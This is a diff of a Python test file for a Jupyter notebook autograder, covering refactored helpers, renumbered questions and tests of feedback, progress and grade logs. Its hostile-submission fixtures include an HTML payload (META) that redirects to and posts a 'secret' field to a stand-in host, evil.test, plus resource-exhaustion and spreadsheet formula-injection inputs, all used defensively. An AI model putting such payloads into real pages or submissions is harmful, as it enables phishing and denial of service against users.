@@ -12,7 +12,6 @@ import io
 import json
 import platform
 import re
-import sqlite3
 import tempfile
 from collections.abc import Callable
 from dataclasses import dataclass, replace
@@ -31,23 +30,21 @@ from lincourse.grader import (
     records,
     report,
     sandbox,
-    tables,
     workers,
 )
 from lincourse.grader.fork_server import Limits, SandboxConfig
-from lincourse.grader.gradebook import SOURCE
-from lincourse.grader.grading import RefusedError, grade_folder
+from lincourse.grader.grading import Progress, RefusedError, grade_folder
 from lincourse.grader.hidden import questions
-from lincourse.grader.progress import Progress
+from lincourse.grader.pages import hard
+from lincourse.grader.release import SOURCE
 from lincourse.grader.sandbox import Sandbox
 from lincourse.grader.scoring import Options
 from lincourse.grader.submission import find, safe
-from lincourse.grader.summary import hard
 from lincourse.paths import HOMEWORK, NOTEBOOKS
-from tests.handed_in import cell_of, filled, hand_in, template
+from tests.handed_in import cell_of, filled, hand_in, reference_answers, template
 
 LECTURE = NOTEBOOKS / "02-perceptron.ipynb"
-FULL = {"q1": 4, "q2": 4, "q3": 4, "q4": 4, "q5": 5, "q6": 3}
+FULL = {"q1": 4, "q2": 4, "q3": 4, "q4": 4, "q5": 5}
 LIMITS = Limits(cell=6, notebook=60, page=3, memory=1 << 30)  # hostile work uses up all of it
 ROOT = HOMEWORK.parent.parent
 needs_bwrap = pytest.mark.needs("bwrap")
@@ -81,6 +78,13 @@ LEAK_Q2 = """def signed_distances(X, w, w0):
 MATH_Q2 = "def signed_distances(X, w, w0):\n    return (X @ w + w0) / math.sqrt(w @ w)\n"
 OLD_Q4 = "def one_pas(X, y, weights):\n    return None\n"
 PICTURE = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(40)).decode()
+WITH_PICTURE = {
+    "source": "See ![image.png](attachment:image.png) and ![gone](attachment:gone.png)",
+    "attachments": {"image.png": {"image/png": PICTURE}},
+}
+HELPER = "def helper(X, y, weights):\n    return one_pass(X, y, weights)\n"
+HELPED_Q5 = reference_answers("hw1")["q5"].replace("one_pass(", "helper(")
+SETUP = "".join(cell_of(template("hw1"), "setup")["source"]) + "\nimport math"
 META = """from IPython.display import HTML
 HTML('<meta http-equiv="refresh" content="0;url=//evil.test"><form action="//evil.test">'
      '<input name="secret"></form><b onclick="x()" style="position:fixed">shown</b>')
@@ -100,100 +104,56 @@ WRONG_Q4 = """def one_pass(X, y, weights):
 WRONG_Q2 = "def signed_distances(X, w, w0):\n    return X @ w + w0\n"
 
 
-def own_code(source: str) -> dict[str, Any]:
-    return {"cell_type": "code", "id": "own", "metadata": {}, "outputs": [], "source": source,
-            "execution_count": None}  # fmt: skip
+Change = Callable[[dict[str, Any]], None]
+
+
+def changed(*changes: Change, **answers: str) -> dict[str, Any]:
+    """Return the reference, or other answers, after some changes."""
+    notebook = filled("hw1", **answers)
+    for change in changes:
+        change(notebook)
+    return notebook
 
 
 def with_own(source: str, at: int = 2, **answers: str) -> dict[str, Any]:
     """Return the reference, or other answers, with a cell of the student's own."""
-    notebook = filled("hw1", **answers)
-    notebook["cells"].insert(at, own_code(source))
-    return notebook
+    own = {"cell_type": "code", "id": "own", "metadata": {}, "outputs": [], "source": source}
+    return changed(lambda notebook: notebook["cells"].insert(at, own), **answers)
 
 
-def changed(change: Callable[[dict[str, Any]], None], **answers: str) -> dict[str, Any]:
-    notebook = filled("hw1", **answers)
-    change(notebook)
-    return notebook
+def copied(label: str, source: str, after: str = "") -> Change:
+    """Copy a cell, as JupyterLab does it: both keep the label. Other text stands in the copy."""
+
+    def change(notebook: dict[str, Any]) -> None:
+        cells, cell = notebook["cells"], cell_of(notebook, label)
+        place = cells.index(cell_of(notebook, after)) + 1 if after else cells.index(cell)
+        cells.insert(place, dict(cell, id="copy", source=source))
+
+    return change
 
 
-def answered_twice(notebook: dict[str, Any]) -> None:
-    cells = notebook["cells"]
-    cell = cell_of(notebook, "q2")
-    cells.insert(cells.index(cell), dict(cell, id="first", source=WRONG_Q2))
+def put(label: str, **fields: Any) -> Change:
+    return lambda notebook: cell_of(notebook, label).update(fields)
 
 
-def without_tests(notebook: dict[str, Any]) -> None:
-    notebook["cells"] = [
-        c for c in notebook["cells"] if not c["metadata"]["nbgrader"]["grade_id"].endswith("-tests")
-    ]
+def without(*endings: str) -> Change:
+    def change(notebook: dict[str, Any]) -> None:
+        name = lambda cell: cell["metadata"]["nbgrader"]["grade_id"]  # noqa: E731
+        notebook["cells"] = [c for c in notebook["cells"] if not name(c).endswith(endings)]
+
+    return change
 
 
-def answer_deleted(notebook: dict[str, Any]) -> None:
-    notebook["cells"].remove(cell_of(notebook, "q2"))
+def each(edit: Callable[[int, dict[str, Any]], dict[str, Any]]) -> Change:
+    def change(notebook: dict[str, Any]) -> None:
+        for number, cell in enumerate(notebook["cells"]):
+            cell |= edit(number, cell)
+
+    return change
 
 
-def with_edited_tests(notebook: dict[str, Any]) -> None:
-    cell_of(notebook, "q2-tests")["source"] = "pass"
-    cell_of(notebook, "q2-tests")["metadata"]["nbgrader"]["points"] = 400
-
-
-def relabelled(notebook: dict[str, Any]) -> None:
-    cell_of(notebook, "q2")["metadata"]["nbgrader"]["grade_id"] = "q9"
-    cell_of(notebook, "q3")["metadata"]["nbgrader"] = "lost"
-
-
-def labels_lost(notebook: dict[str, Any]) -> None:
-    for number, cell in enumerate(notebook["cells"]):
-        cell["metadata"], cell["id"] = {}, f"c{number}"
-
-
-def from_windows(notebook: dict[str, Any]) -> None:
-    for cell in notebook["cells"]:
-        cell["source"] = "".join(cell["source"]).replace("\n", "\r\n")
-
-
-def split_q5(notebook: dict[str, Any]) -> None:
-    """Split as JupyterLab does it: both halves keep the label."""
-    cells, cell = notebook["cells"], cell_of(notebook, "q5")
-    helper = "def helper(X, y, weights):\n    return one_pass(X, y, weights)\n"
-    cells.insert(cells.index(cell), dict(cell, id="half", source=helper))
-    cell["source"] = cell["source"].replace("one_pass(X, y, weights)", "helper(X, y, weights)")
-
-
-def old_try_below(notebook: dict[str, Any]) -> None:
-    cells, cell = notebook["cells"], cell_of(notebook, "q4")
-    place = cells.index(cell_of(notebook, "q4-tests")) + 1
-    cells.insert(place, dict(cell, id="old", source=OLD_Q4))
-
-
-def imports_in_setup(notebook: dict[str, Any]) -> None:
-    cell = cell_of(notebook, "setup")
-    cell["source"] = "".join(cell["source"]) + "\nimport math"
-
-
-def with_picture(notebook: dict[str, Any]) -> None:
-    cell = cell_of(notebook, "q7")
-    cell["source"] = "See ![image.png](attachment:image.png) and ![gone](attachment:gone.png)"
-    cell["attachments"] = {"image.png": {"image/png": PICTURE}}
-
-
-def in_format_3(notebook: dict[str, Any]) -> dict[str, Any]:
-    cells = []
-    for cell in notebook["cells"]:
-        old = {"cell_type": cell["cell_type"], "metadata": cell["metadata"]}
-        old["input" if cell["cell_type"] == "code" else "source"] = cell["source"]
-        cells.append(old)
-    return {"nbformat": 3, "metadata": {}, "worksheets": [{"cells": cells}]}
-
-
-def reordered(notebook: dict[str, Any]) -> None:
-    notebook["cells"].reverse()
-
-
-def made_markdown(notebook: dict[str, Any]) -> None:
-    cell_of(notebook, "q2")["cell_type"] = "markdown"
+def labelled(**labels: Any) -> dict[str, Any]:
+    return {"nbgrader": {"grade": False, "solution": False, "locked": True, **labels}}
 
 
 PATCHED = """
@@ -295,19 +255,23 @@ def hostile(places: dict[str, str]) -> dict[str, tuple[Any, dict[str, float] | s
         "output": (with_own("print('x' * 200_000_000)"), FULL),
         "output bit by bit": (with_own(TRICKLE), FULL),
         "processes": (with_own(MANY), FULL),
-        "answered twice": (changed(answered_twice), FULL),
-        "tests deleted": (changed(without_tests), FULL),
-        "answer deleted": (changed(answer_deleted), all_but_2),
-        "tests edited": (changed(with_edited_tests, q2=WRONG_Q2), all_but_2),
-        "relabelled": (changed(relabelled), FULL),
-        "labels lost": (changed(labels_lost), FULL),
-        "from Windows": (changed(from_windows), FULL),
+        "answered twice": (changed(copied("q2", WRONG_Q2)), FULL),
+        "tests deleted": (changed(without("-tests")), FULL),
+        "answer deleted": (changed(without("q2")), all_but_2),
+        "tests edited": (changed(
+            put("q2-tests", source="pass", metadata=labelled(grade_id="q2-tests", points=400)),
+            q2=WRONG_Q2), all_but_2),
+        "relabelled": (changed(put("q2", metadata=labelled(grade_id="q9")),
+                               put("q3", metadata={"nbgrader": "lost"})), FULL),
+        "labels lost": (changed(each(lambda k, cell: {"metadata": {}, "id": f"c{k}"})), FULL),
+        "from Windows": (changed(each(
+            lambda k, cell: {"source": "".join(cell["source"]).replace("\n", "\r\n")})), FULL),
         "surrogates": (with_own(SURROGATE), FULL),
         "braces": (BRACES, "more memory or time to be read"),
         "lecture": (LECTURE.read_text(encoding="utf-8"), "is it a lecture or another notebook?"),
         "uncounted": (with_own(UNCOUNTED), FULL),
-        "reordered": (changed(reordered), FULL),
-        "made markdown": (changed(made_markdown), FULL),
+        "reordered": (changed(lambda notebook: notebook["cells"].reverse()), FULL),
+        "made markdown": (changed(put("q2", cell_type="markdown")), FULL),
         "invalid": ("{ this is no JSON", "cannot be read"),
         "no notebook": ('{"cells": 3}', "cannot be read"),
         "other homework": (filled("hw2"), "it is hw2"),
@@ -324,20 +288,20 @@ def hostile(places: dict[str, str]) -> dict[str, tuple[Any, dict[str, float] | s
         "asks": (with_own("input('? ')"), FULL),
         "borrows": (filled("hw1", q5=BORROWED), FULL | {"q5": 0}),
         "borrows elsewhere": (filled("hw1", q5=BORROWED_ELSEWHERE), FULL | {"q5": 0}),
-        "brackets": (filled("hw1", q7="[" * 50_000), FULL),
-        "spaces": (filled("hw1", q7="a$b" + " " * 300_000 + "c"), FULL),
-        "covers the page": (filled("hw1", q7=COVER), FULL),
-        "picture": (changed(with_picture), FULL),
+        "brackets": (filled("hw1", q6="[" * 50_000), FULL),
+        "spaces": (filled("hw1", q6="a$b" + " " * 300_000 + "c"), FULL),
+        "covers the page": (filled("hw1", q6=COVER), FULL),
+        "picture": (changed(put("q6", **WITH_PICTURE)), FULL),
         "syntax error": (filled("hw1", q2=SYNTAX_Q2), all_but_2),
         "imports scipy": (filled("hw1", q2=SCIPY_Q2), all_but_2),
         "imports scipy inside": (filled("hw1", q2=SCIPY_IN_Q2), all_but_2),
         "leaks by a name": (filled("hw1", q2=LEAK_Q2), all_but_2),
         "refreshes": (with_own(META), FULL),
-        "split answer": (changed(split_q5), FULL),
-        "old try below": (changed(old_try_below), FULL),
-        "imports in setup": (changed(imports_in_setup, q2=MATH_Q2), FULL),
+        "split answer": (changed(copied("q5", HELPER), put("q5", source=HELPED_Q5)), FULL),
+        "old try below": (changed(copied("q4", OLD_Q4, after="q4-tests")), FULL),
+        "imports in setup": (changed(put("setup", source=SETUP), q2=MATH_Q2), FULL),
         "with a mark": ("\ufeff" + json.dumps(filled("hw1")), FULL),
-        "format 3": (in_format_3(filled("hw1")), FULL),
+        "format 3": ('{"nbformat": 3, "worksheets": []}', "open it in JupyterLab"),
         "one mistake": (filled("hw1", q4=WRONG_Q4), FULL | {"q4": 0}),
     }  # fmt: skip
 
@@ -363,7 +327,7 @@ class Batch:
         return (self.out / "feedback" / f"{safe(student)}.html").read_text(encoding="utf-8")
 
 
-table = tables.read_table
+table = records.read_table
 
 
 def private(root: Path) -> Path:
@@ -487,32 +451,31 @@ def test_feedback_opens_offline_runs_nothing_and_shows_no_hidden_test(batch: Bat
             assert secret not in words, path
 
 
-def test_feedback_names_the_misconception(batch: Batch) -> None:
-    hint = "This is the score, not the distance: divide by the length of w."
-    assert hint in batch.feedback("tests edited")
-    assert hint in (batch.out / "summary.html").read_text(encoding="utf-8")
-
-
-def test_a_person_is_told_what_to_look_at(batch: Batch) -> None:
-    assert "the answer cell is missing" in batch.rows["answer deleted"]["notes"]
-    assert "different answer cells" in batch.rows["answered twice"]["notes"]
-    assert "did not finish" in batch.rows["swallows interrupts"]["notes"]
-    assert "ended the kernel" in batch.rows["leaves"]["notes"]
-    assert "printed more" in batch.rows["output"]["notes"]
-    assert "ended the kernel" in batch.rows["processes"]["notes"]  # not by the clock: too many
-
-
-def test_what_was_replaced_is_said(batch: Batch) -> None:
-    assert "tests were changed; the given ones were run" in batch.rows["tests edited"]["notes"]
-    assert "setup: this given cell was changed" in batch.rows["imports in setup"]["notes"]
-    assert "2 different answer cells; all were run" in batch.rows["split answer"]["notes"]
-    assert batch.rows["from Windows"]["notes"] == "" == batch.rows["labels lost"]["notes"]
+@pytest.mark.parametrize(
+    ("name", "said"),
+    [
+        ("answer deleted", "the answer cell is missing"),
+        ("answered twice", "different answer cells"),
+        ("swallows interrupts", "did not finish"),
+        ("leaves", "ended the kernel"),
+        ("output", "printed more"),
+        ("processes", "ended the kernel"),  # not by the clock: too many
+        ("tests edited", "tests were changed; the given ones were run"),
+        ("imports in setup", "setup: this given cell was changed"),
+        ("split answer", "2 different answer cells; all were run"),
+        ("from Windows", ""),
+        ("labels lost", ""),
+    ],
+)
+def test_what_a_person_should_look_at_is_noted(batch: Batch, name: str, said: str) -> None:
+    notes = batch.rows[name]["notes"]
+    assert said in notes if said else notes == ""
 
 
 @pytest.mark.parametrize(
     ("name", "said"),
     [
-        ("syntax error", "its cell has a SyntaxError in line 2: expected &#x27;:&#x27;."),
+        ("syntax error", "its cell has a SyntaxError in line 2: expected &#39;:&#39;."),
         ("imports scipy", "its cell imports scipy: write it with NumPy"),
         (
             "imports scipy inside",
@@ -530,20 +493,35 @@ def test_feedback_says_why(batch: Batch, name: str, said: str) -> None:
     assert "LEAK" not in re.sub("<[^>]+>", "", page).partition("Your notebook")[0]
 
 
+@pytest.mark.parametrize("name", ["reference", "asks"])
+def test_a_given_picture_is_shown(batch: Batch, name: str) -> None:
+    """Drawn once for all who ran nothing of their own before it, and anew for the others."""
+    assert batch.feedback(name).count('<img alt="A rising line through (0, -1)') == 1
+    notebook = (batch.out / "records").glob(f"{name}~*.ipynb")
+    assert '"image/png": "iVBOR' in next(notebook).read_text(encoding="utf-8")
+
+
 def test_feedback_counts_compares_links_and_states_limits(batch: Batch) -> None:
-    page = batch.feedback("tests edited")
-    assert "5 of 5 cases fail: the example of the question; a line that does not" not in page
+    page, hint = batch.feedback("tests edited"), "This is the score, not the distance: divide"
+    assert hint in page
     assert "4 of 5 cases fail: the example of the question; a line that does not" in page
     assert "On the example of the question: found [20, -5, 0], expected [4, -1, 0]." in page
     assert "<a href='#cell-q2'>q2</a>" in page
     assert page.count("id='cell-q2'") == 1
     assert "A cell may run for 6 seconds, the whole notebook for 60" in page
+    summary = (batch.out / "summary.html").read_text(encoding="utf-8")
+    assert hint in summary
+    assert "<summary>one of them</summary>" in summary, "a misconception with an example"
+    assert "<meter max='100' value='9" in summary
 
 
-def test_one_mistake_costs_once(batch: Batch) -> None:
+def test_one_mistake_costs_once_and_no_answer_is_called_so(batch: Batch) -> None:
     remarks = batch.record("one mistake")["remarks"]
     assert remarks["q5"] == "Judged with our answer to q4 in place of yours."
     assert batch.record("one mistake")["points"]["q5"] == 5
+    remarks = batch.record("untouched")["remarks"]
+    assert remarks["q1"] == "`sides` is not answered yet."
+    assert remarks["q2"] == "`signed_distances` is not answered yet."
 
 
 def test_nothing_of_a_student_leaves_its_place_on_a_page(batch: Batch) -> None:
@@ -590,38 +568,9 @@ def test_written_answers_wait_in_a_queue_and_untouched_ones_do_not(batch: Batch)
 
 
 def test_what_is_hard_is_judged_by_what_is_marked() -> None:
-    shares = {"q1": [100.0] * 4, "q2": [0.0, 0.0, 100.0, 0.0], "q7": [0.0]}
-    assert "badly asked</strong> (mean below half the points): q2." in hard(shares)
-    assert "No question was too hard" in hard({"q1": [50.0]})
-
-
-def test_an_answer_that_was_not_given_is_called_so(batch: Batch) -> None:
-    remarks = batch.record("untouched")["remarks"]
-    assert remarks["q1"] == "`sides` is not answered yet."
-    assert remarks["q2"] == "`signed_distances` is not answered yet."
-
-
-def test_the_summary_has_an_example_of_a_misconception(batch: Batch) -> None:
-    page = (batch.out / "summary.html").read_text(encoding="utf-8")
-    assert "<summary>one of them</summary>" in page, "a misconception with an example"
-    assert "<meter max='100' value='9" in page
-
-
-def test_the_gradebook_has_the_version_that_nbgrader_would_write(batch: Batch) -> None:
-    """The one step of nbgrader's migrations that no other follows."""
-    from nbgrader.dbutil import ALEMBIC_DIR
-
-    steps = [path.read_text("utf-8") for path in Path(ALEMBIC_DIR, "versions").glob("*.py")]
-    names, followed = (
-        {found[1] for step in steps if (found := re.search(rf"^{word} = '(\w+)'", step, re.M))}
-        for word in ("revision", "down_revision")
-    )
-    (book,) = (batch.out / "nbgrader").glob("*.db")
-    with contextlib.closing(sqlite3.connect(book)) as opened:
-        assert opened.execute("SELECT version_num FROM alembic_version").fetchall() == [
-            (name,) for name in names - followed
-        ]
-    assert len(names) == len(steps)
+    shares = {"q1": [100.0] * 4, "q2": [0.0, 0.0, 100.0, 0.0], "q6": [0.0]}
+    assert hard(shares) == ["q2"]
+    assert hard({"q1": [50.0]}) == []
 
 
 # ---------------------------------------------------------------- without a sandbox
@@ -868,10 +817,10 @@ def test_grading_can_be_stopped_taken_up_and_marked_by_hand(
         writer.writerows(rows)
     status, said = graded_now(folder, out)
     assert status == 1
-    assert "NOT ENTERED bob q7: points '30'" in said
+    assert "NOT ENTERED bob q6: points '30'" in said
     grades = {row["student"]: row for row in table(out / "grades.csv")}
-    assert grades["ada"]["q7"] == "2.5"
-    assert grades["ada"]["total"] == "26.5"
+    assert grades["ada"]["q6"] == "2.5"
+    assert grades["ada"]["total"] == "23.5"
     assert grades["ada"]["status"] == "complete"
     assert grades["bob"]["status"] == "1 written to mark"
     assert table(path)[1]["points"] == "30"  # what the person wrote is not lost
@@ -880,13 +829,13 @@ def test_grading_can_be_stopped_taken_up_and_marked_by_hand(
 
     # another folder, and the student hands in another answer: it is marked anew
     elsewhere = folder.with_name("elsewhere")
-    hand_in(elsewhere, "ada", filled("hw1", q7="Because 0 times anything is 0."))
+    hand_in(elsewhere, "ada", filled("hw1", q6="Because 0 times anything is 0."))
     path.unlink()  # a crash, or somebody tidied up
     _, said = graded_now(elsewhere, out)
     assert "ada: graded before" not in said
     assert "NOT THERE bob (bob)" in said
     grades = {row["student"]: row for row in table(out / "grades.csv")}
-    assert (grades["ada"]["q7"], grades["bob"]["q1"]) == ("", "4")
+    assert (grades["ada"]["q6"], grades["bob"]["q1"]) == ("", "4")
     assert grades["bob"]["status"].startswith("not in the folder any more")
     assert (out / "feedback" / "bob.html").exists()
 
@@ -894,46 +843,35 @@ def test_grading_can_be_stopped_taken_up_and_marked_by_hand(
     _, said = graded_now(folder, out)
     assert said.count("graded before") == 2
     grades = {row["student"]: row for row in table(out / "grades.csv")}
-    assert (grades["ada"]["q7"], grades["bob"]["q7"]) == ("2.5", "")
+    assert (grades["ada"]["q6"], grades["bob"]["q6"]) == ("2.5", "")
     assert table(path)[0]["comment"] == "Good, but why no clean pass?"
     rows = table(path)
     rows[0] |= {"points": "-"}  # taken back
-    tables.put_table(path, list(rows[0]), rows)
-    graded_now(folder, out)
-    assert table(out / "grades.csv")[0]["q7"] == ""
+    rows[1] |= {"points": ""}
+    records.put_table(path, list(rows[0]), rows)
+    _, said = graded_now(folder, out)
+    assert "NOT ENTERED ada" not in said
+    assert table(out / "grades.csv")[0]["q6"] == ""
 
 
 def test_a_spreadsheet_takes_no_name_and_no_answer_for_a_formula(tmp_path: Path) -> None:
     rows = [{"name": text} for text in ("=1+1", "+1", "-1", "@sum", "\t=1", "plain")]
-    tables.put_table(tmp_path / "t.csv", ["name"], rows)
+    records.put_table(tmp_path / "t.csv", ["name"], rows)
     found = [row["name"] for row in table(tmp_path / "t.csv")]
     assert found == ["'=1+1", "'+1", "'-1", "'@sum", "'\t=1", "plain"]
     assert report.mark_key("a", "q", "'=1+1") == report.mark_key("a", "q", "=1 +1".replace(" ", ""))
 
 
-def test_on_a_screen_one_line_shows_how_far_it_is_how_fast_and_how_long() -> None:
-    class Screen(io.StringIO):
-        def isatty(self) -> bool:
-            return True
-
-    screen = Screen()
-    progress = Progress(4, screen)
-    progress.known("ada", "")
+def test_progress_says_how_far_it_is_how_fast_and_how_long() -> None:
+    stream = io.StringIO()
+    progress = Progress(4, stream)
+    progress.step("ada", "graded before", fresh=False)
     progress.started -= 10  # seconds ago
     progress.step("bob", "0.4 s")
-    shown = [line.split("\033")[0] for line in screen.getvalue().split("\r")[1:]]
-    assert shown[0] == f"[{'#' * 7}{'.' * 23}] 1/4"
-    assert shown[1] == f"[{'#' * 15}{'.' * 15}] 2/4, 0.1 a second, 20 s left"
-
-
-def test_the_summary_says_how_far_it_is_while_it_runs(small: tuple[Path, Path]) -> None:
-    _, out = small
-    out.mkdir()
-    made = grading.Grading("hw1", out, Options(LIMITS, sandbox=bwrap.available()))
-    grading.report.write_summary(made, {}, running="1/2, 4.0 a second, 1 s left")
-    page = (out / "summary.html").read_text(encoding="utf-8")
-    assert "1/2, 4.0 a second, 1 s left" in page
-    assert "http-equiv='refresh'" in page
+    assert stream.getvalue().splitlines() == [
+        "[1/4] ada: graded before",
+        "[2/4, 0.1 a second, 0:00:20 left] bob: 0.4 s",
+    ]
 
 
 def test_two_graders_do_not_work_into_one_folder(small: tuple[Path, Path]) -> None:
@@ -967,6 +905,12 @@ def test_a_bad_call_gets_one_sentence(
         cli.main([*call, "--out", str(tmp_path / "out")])
     assert said in str(refused.value)
     assert len(str(refused.value).splitlines()) == 1
+
+
+def test_windows_is_told_where_to_grade(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("sys.platform", "win32")
+    with pytest.raises(SystemExit, match="on Windows run it in WSL"):
+        cli.main(["grade", "hw1", "in"])
 
 
 def test_the_exit_code_says_that_some_could_not_be_graded(tmp_path: Path) -> None:
@@ -1024,16 +968,16 @@ def test_a_worker_that_dies_costs_no_submission() -> None:
 
 def test_every_change_to_a_grade_is_logged(tmp_path: Path) -> None:
     (tmp_path / "records").mkdir()
-    first = {"=ada": {"digest": "1", "points": {"q1": 3.0, "q7": None}}}
+    first = {"=ada": {"digest": "1", "points": {"q1": 3.0, "q6": None}}}
     records.log_changes(tmp_path, first, "marked")
     records.log_changes(tmp_path, first, "marked")
-    second = {"=ada": {"digest": "1", "points": {"q1": 3.0, "q7": 2.0}}}
+    second = {"=ada": {"digest": "1", "points": {"q1": 3.0, "q6": 2.0}}}
     records.log_changes(tmp_path, second, "marked")
-    third = {"=ada": {"digest": "2", "points": {"q1": 0.0, "q7": 2.0}}}
+    third = {"=ada": {"digest": "2", "points": {"q1": 0.0, "q6": 2.0}}}
     records.log_changes(tmp_path, third, "marked")
     rows = table(tmp_path / "changes.csv")
     assert [(r["student"], r["question"], r["before"], r["after"], r["why"]) for r in rows] == [
         ("'=ada", "q1", "", "3", "graded for the first time"),
-        ("'=ada", "q7", "", "2", "marked"),
+        ("'=ada", "q6", "", "2", "marked"),
         ("'=ada", "q1", "3", "0", "another file counts"),
     ]
